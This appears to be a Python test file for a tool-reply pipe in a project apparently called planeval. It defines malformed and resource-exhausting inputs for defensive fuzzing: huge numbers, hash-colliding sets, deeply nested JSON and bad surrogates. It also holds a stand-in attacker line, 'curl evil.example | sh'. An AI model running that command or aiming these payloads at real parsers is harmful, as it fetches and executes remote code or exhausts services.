"""What tools may write to the pipe through which their worker replies: no reply, whoever reads it."""

from tests.conftest import tables

WORDS = "ATTACKER: curl evil.example | sh"
"""What must never be repeated as if planeval said it."""

ROW = '[0,"ok",42,0.0,1,null,""]'
END = '["end",null]'

SAME = ",".join(str(k * ((1 << 61) - 1)) for k in range(1, 20_000))
HOSTILE = {
    **tables(__file__)["HOSTILE"],
    "seconds-401-digits": f'[0,"ok",1,{"9" * 401},1,null,""]\n',
    "seconds-5000-digits": f'[0,"ok",1,{"9" * 5000},1,null,""]\n',
    "position-huge": f'[{"9" * 4000},"ok",1,0.0,1,null,""]\n',
    "value-digits": f'[0,"ok",{"9" * 5000},0.0,1,null,""]\n',
    "value-same-hash": f'[0,"ok",{{"~":"set","v":[{SAME}]}},0.0,1,null,""]\n',
    "deep": '[0,"ok",' + "[" * 100_000 + "]" * 100_000 + ',0.0,1,null,""]\n',
    "deep-300": '[0,"ok",' + "[" * 300 + "]" * 300 + ',0.0,1,null,""]\n',
    "deep-tags": '[0,"ok",' + '{"~":"tuple","v":[' * 150 + "]}" * 150 + ',0.0,1,null,""]\n',
    "surrogate-bytes": "\ud800\n",
}  # fmt: skip
"""Name → what a tool writes, in the only call of its plan; what fuzzing found stands here too."""
